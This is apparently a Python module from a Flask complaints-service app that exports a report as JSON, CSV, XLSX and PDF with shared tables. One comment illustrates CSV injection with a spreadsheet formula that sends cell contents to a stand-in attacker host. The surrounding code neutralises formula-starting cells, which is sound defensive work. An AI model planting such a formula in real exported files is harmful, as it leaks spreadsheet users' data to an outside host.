"""A report as JSON, CSV, XLSX and PDF: one layout of tables shared by every format."""

import csv
import io
from dataclasses import dataclass

from flask_babel import gettext as _

from .report_text import (
    ROUNDING_RULE,
    TABLE_TITLES,
    format_duration,
    format_stars,
    period_label,
    report_title,
    summary,
)

FORMATS = ("json", "csv", "xlsx", "pdf")
MEDIA_TYPES = {
    "json": "application/json",
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pdf": "application/pdf",
}


def as_json(report):
    """Every figure of the report, for other tools: counts, percents, seconds."""
    period = report.period
    return {
        "period": {
            "from": period.first.isoformat() if period.first else None,
            "to": period.last.isoformat() if period.last else None,
            "all_time": period.all_time,
            "timezone": "WITA",
        },
        "opd": report.opd_name,
        "total": report.total,
        "by_type": [row.as_dict() for row in report.by_type],
        "by_status": [row.as_dict() for row in report.by_status],
        "by_opd": [row.as_dict() for row in report.by_opd],
        "satisfaction": [
            {"name": r.name, "ratings": r.ratings,
             "average_stars": round(r.average, 2) if r.average is not None else None}
            for r in report.satisfaction
        ],
        "speed": [
            {"name": r.name, "median_seconds_to_forward": r.to_forward,
             "median_seconds_to_first_response": r.to_first_response,
             "median_seconds_to_resolution": r.to_resolution}
            for r in report.speed
        ],
        "on_time": [row.as_dict() for row in report.on_time],
        "reopened": [
            {"name": r.name, "resolved": r.resolved, "reopened": r.reopened,
             "percent": r.percent}
            for r in report.reopened
        ],
        "appeals": report.appeals,
        "summary": summary(report),
    }


class Percent(int):
    """A whole percent: "43%" when written out, the number 43 in a spreadsheet."""

    def __str__(self):
        return f"{int(self)}%"


@dataclass(frozen=True)
class Stars:
    """An average rating (None: no ratings): "4,3" written out, a number in a sheet."""

    average: float | None
    style = "stars"  # the spreadsheet's number format

    def __str__(self):
        return format_stars(self.average)

    @property
    def number(self):
        return self.average


@dataclass(frozen=True)
class Duration:
    """A median duration (None: none yet): "2 hari" written out, days in a sheet."""

    seconds: float | None
    style = "days"

    def __str__(self):
        return format_duration(self.seconds)

    @property
    def number(self):
        return None if self.seconds is None else self.seconds / 86400


def tables(report):
    """(key, title, header, rows, is_breakdown) for each table. Cells are text, whole
    numbers, or the typed values above (str() gives what a person reads)."""
    count_header = [_("Count"), _("Percent")]
    breakdowns = [
        ("by_type", [_("Type")], report.by_type),
        ("by_status", [_("Status")], report.by_status),
        ("by_opd", [_("OPD")], report.by_opd),
    ]
    result = []
    for key, first, rows in breakdowns:
        body = [[row.name, row.count, Percent(row.percent)] for row in rows]
        body.append([_("Total"), report.total, Percent(100 if report.total else 0)])
        result.append((key, str(TABLE_TITLES[key]), first + count_header, body, True))
    result.append((
        "satisfaction", str(TABLE_TITLES["satisfaction"]),
        [_("OPD"), _("Ratings"), _("Average stars (1–5)")],
        [[r.name, r.ratings, Stars(r.average)] for r in report.satisfaction],
        False,
    ))
    result.append((
        "speed", str(TABLE_TITLES["speed"]),
        [_("OPD"), _("To forwarding"), _("To first response"), _("To resolution")],
        [[r.name, Duration(r.to_forward), Duration(r.to_first_response),
          Duration(r.to_resolution)] for r in report.speed],
        False,
    ))
    result.append(("on_time", str(TABLE_TITLES["on_time"]), [
        _("OPD"), _("Responded on time"), _("Responded late"), _("On time (%)"),
        _("Response not yet due"), _("Resolved on time"), _("Resolved late"),
        _("On time (%)"), _("Resolution not yet due"),
        _("Median working days to first response"), _("Median working days to resolution"),
    ], [[r.name, r.response_on_time, r.response_late, _maybe_percent(r.response_percent),
         r.response_pending, r.resolution_on_time, r.resolution_late,
         _maybe_percent(r.resolution_percent), r.resolution_pending,
         WorkingDays(r.median_days_to_response), WorkingDays(r.median_days_to_resolution)]
        for r in report.on_time], False))
    result.append((
        "reopened", str(TABLE_TITLES["reopened"]),
        [_("OPD"), _("Resolved"), _("Reopened"), _("Percent")],
        [[r.name, r.resolved, r.reopened, Percent(r.percent)] for r in report.reopened],
        False,
    ))
    return result


def _maybe_percent(value):
    return "–" if value is None else Percent(value)


@dataclass(frozen=True)
class WorkingDays:
    """A median in working days (None: none yet): "2,5" written out, a number in a sheet."""

    days: float | None
    style = "stars"  # one decimal

    def __str__(self):
        return format_stars(self.days)

    @property
    def number(self):
        return self.days


# A text cell starting with one of these is a formula to a spreadsheet program (an
# OPD named =HYPERLINK("http://evil.example/?"&A1) would run): OWASP's CSV injection.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(text):
    """`text` as a cell a spreadsheet shows and never evaluates."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _heading(report):
    return [report_title(report), _("Period: %(period)s", period=period_label(report.period))]


def _csv_cell(value):
    return neutralised(value) if isinstance(value, str) else str(value)


def as_csv(report):
    out = io.StringIO()
    writer = csv.writer(out)

    def line(*cells):
        writer.writerow([_csv_cell(cell) for cell in cells])

    for text in _heading(report):
        line(text)
    for _key, title, header, rows, _breakdown in tables(report):
        line()
        line(title)
        line(*header)
        for row in rows:
            line(*row)
    line()
    line(str(ROUNDING_RULE))
    line()
    for sentence in summary(report):
        line(sentence)
    # A byte-order mark lets spreadsheet programs read the file as UTF-8.
    return "\ufeff" + out.getvalue()


class _Sheet:
    """One worksheet written cell by cell with the type each value has: numbers stay
    numbers, text is only ever text (never a formula, a number or a link)."""

    def __init__(self, book):
        self.sheet = book.add_worksheet(_("Report")[:31])
        self.sheet.set_column(0, 0, 60)
        self.sheet.set_column(1, 3, 18)
        self.formats = {
            "bold": book.add_format({"bold": True}),
            "title": book.add_format({"bold": True, "font_size": 14}),
            "stars": book.add_format({"num_format": "0.0"}),
            # The unit is part of the number format: the cell holds the number of days.
            "days": book.add_format({"num_format": '0.0" ' + _("days").replace('"', "") + '"'}),
        }
        self.line = 0

    def write(self, column, value, style=None):
        form = self.formats.get(style)
        if isinstance(value, Stars | Duration | WorkingDays):
            if value.number is None:
                return self.sheet.write_string(self.line, column, str(value))
            return self.sheet.write_number(self.line, column, round(value.number, 2),
                                           self.formats[value.style])
        if isinstance(value, int):  # counts and whole percents (Percent is an int)
            return self.sheet.write_number(self.line, column, int(value), form)
        return self.sheet.write_string(self.line, column, neutralised(str(value)), form)

    def row(self, cells, style=None):
        for column, value in enumerate(cells):
            self.write(column, value, style)
        self.line += 1


def as_xlsx(report):
    import xlsxwriter

    buffer = io.BytesIO()
    # Text stays text: XlsxWriter would otherwise make "=..." a live formula, "123" a
    # number and "http://..." a link.
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False,
                                        "strings_to_numbers": False, "strings_to_urls": False})
    sheet = _Sheet(book)
    for i, text in enumerate(_heading(report)):
        sheet.row([text], "title" if i == 0 else None)
    for _key, title, header, rows, _breakdown in tables(report):
        sheet.line += 1
        sheet.row([title], "bold")
        sheet.row(header, "bold")
        for row in rows:
            sheet.row(row)
    sheet.line += 1
    sheet.row([str(ROUNDING_RULE)])
    sheet.line += 1
    for sentence in summary(report):
        sheet.row([sentence])
    book.close()
    return buffer.getvalue()


def as_pdf(report):
    from .report_pdf import render_pdf

    return render_pdf(report, _heading(report), tables(report), summary(report),
                      str(ROUNDING_RULE))


def export(report, fmt):
    """(content, media type) of the report in `fmt`; content is str or bytes."""
    import json

    if fmt == "json":
        return json.dumps(as_json(report), ensure_ascii=False, indent=2), MEDIA_TYPES[fmt]
    if fmt == "csv":
        return as_csv(report), MEDIA_TYPES[fmt]
    if fmt == "xlsx":
        return as_xlsx(report), MEDIA_TYPES[fmt]
    if fmt == "pdf":
        return as_pdf(report), MEDIA_TYPES[fmt]
    raise ValueError(f"unknown format {fmt!r}")


def filename(report, fmt):
    period = report.period
    if period.all_time:
        span = "semua"
    else:
        span = "_".join(d.isoformat() for d in (period.first, period.last) if d)
    return f"laporan-aspirasi-etam-{span}.{fmt}"
